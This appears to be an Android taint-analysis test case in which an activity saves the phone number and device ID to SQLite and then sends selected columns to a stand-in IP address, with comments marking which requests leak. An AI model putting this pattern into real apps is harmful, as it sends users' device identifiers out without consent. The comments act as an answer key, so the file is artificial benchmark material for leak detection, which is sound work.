package habits;

import android.app.Activity;
import android.content.ContentValues;
import android.content.Context;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.database.sqlite.SQLiteStatement;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** A row has columns, and only one of them is secret. */
public class Columns extends Activity {
    private static final String CREATE = "create table people (id integer primary key, number text, word text)";

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        SQLiteDatabase db = openOrCreateDatabase("c", 0, null);
        db.execSQL(CREATE);
        ContentValues row = new ContentValues();
        row.put("number", phone.getLine1Number());
        row.put("word", "hello");
        db.insert("people", null, row);
        SQLiteStatement statement = db.compileStatement("insert into people (number, word) values (?, ?)");
        statement.bindString(1, phone.getDeviceId());
        statement.bindString(2, "hello");
        statement.executeInsert();
    }

    @Override
    protected void onResume() {
        super.onResume();
        SQLiteDatabase db = openOrCreateDatabase("c", 0, null);
        try {
            Cursor all = db.query("people", null, null, null, null, null, null);
            new URL("http://203.0.113.3/1/" + all.getString(1)).openStream(); // leak
            new URL("http://203.0.113.3/2/" + all.getString(2)).openStream(); // no leak
            Cursor some = db.query("people", new String[] {"word", "number"}, null, null, null, null, null);
            new URL("http://203.0.113.3/3/" + some.getString(0)).openStream(); // no leak
            new URL("http://203.0.113.3/4/" + some.getString(1)).openStream(); // leak
            Cursor named = db.rawQuery("select * from people", null);
            new URL("http://203.0.113.3/5/" + named.getString(named.getColumnIndex("number"))).openStream(); // leak
            new URL("http://203.0.113.3/6/" + named.getString(named.getColumnIndexOrThrow("word"))).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
